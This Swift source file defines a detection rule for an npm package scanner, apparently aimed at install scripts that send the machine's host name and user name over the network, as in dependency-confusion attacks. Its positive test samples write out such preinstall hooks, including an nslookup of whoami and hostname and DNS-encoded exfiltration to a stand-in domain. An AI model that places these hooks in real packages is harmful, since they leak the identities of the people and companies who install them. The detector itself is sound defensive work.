// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What runs at install asks who and where it is, and reaches the network.
package struct InstallReportsHost: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-reports-host", kind: .content, title: "Install reports the machine it runs on", severity: .high, confidence: .medium,
        status: .stable, revision: 3, group: "behaviour",
        rationale: "Host, user and path sent at install are how dependency confusion is proved, by researchers and by thieves.",
        knownFalseAlarms: ["Install statistics of a vendor."],
        references: ["https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610"],
        fires: [
            RuleSample(
                "in the name that the command looks up",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"nslookup $(whoami).$(hostname).d.test"}}"#
                ])),
            RuleSample(
                "host and user by DNS",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node index.js"}}"#,
                    "index.js":
                        "const os = require('os'), dns = require('dns'); dns.lookup(Buffer.from(os.hostname() + os.userInfo().username).toString('hex') + '.d.test', () => {});",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "looks whether a registry is there",
                .sample([
                    "package.json":
                        #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"ping -c 1 registry.npmjs.org || echo offline"}}"#
                ])),
            RuleSample(
                "the host of an address",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js": "const u = new URL(x); require('https').get({hostname: u.hostname, path: u.pathname});",
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        for shell in facts.nearShells {
            for act in shell.facts.acts where (act.kind == .sends || act.kind == .sendsByName) && act.sources.contains(.hostIdentity) {
                return [
                    card.finding(
                        "Install sends the machine's or user's name\(act.kind == .sendsByName ? " by a name that is looked up" : "")",
                        strength: act.kind == .sendsByName ? 1 : 0.75, evidence: [facts.evidence(act, in: shell)],
                        meaning: "Somebody learns which machines and companies install this.")
                ]
            }
        }
        let signs = facts.installSigns
        guard signs.contains(.hostIdentity), !signs.isDisjoint(with: .network) else { return [] }
        let collects = signs.contains(.dropHost) || signs.contains(.rawAddress)
        let encodes = signs.contains(.decodes) || signs.contains(.encodes)
        let several = facts.nearInstallFiles.contains { ($0.scan?.places[.hostIdentity]?.count ?? 0) >= 2 }
        return [
            card.finding(
                "Install asks for the machine's or user's name and reaches the network",
                strength: (collects ? 0.5 : 0) + (encodes ? 0.25 : 0) + (several ? 0.25 : 0),
                evidence: facts.installEvidence([.hostIdentity, .dropHost, .rawAddress] + Sign.reachingNetwork),
                meaning: "Somebody learns which machines and companies install this.")
        ]
    }
}
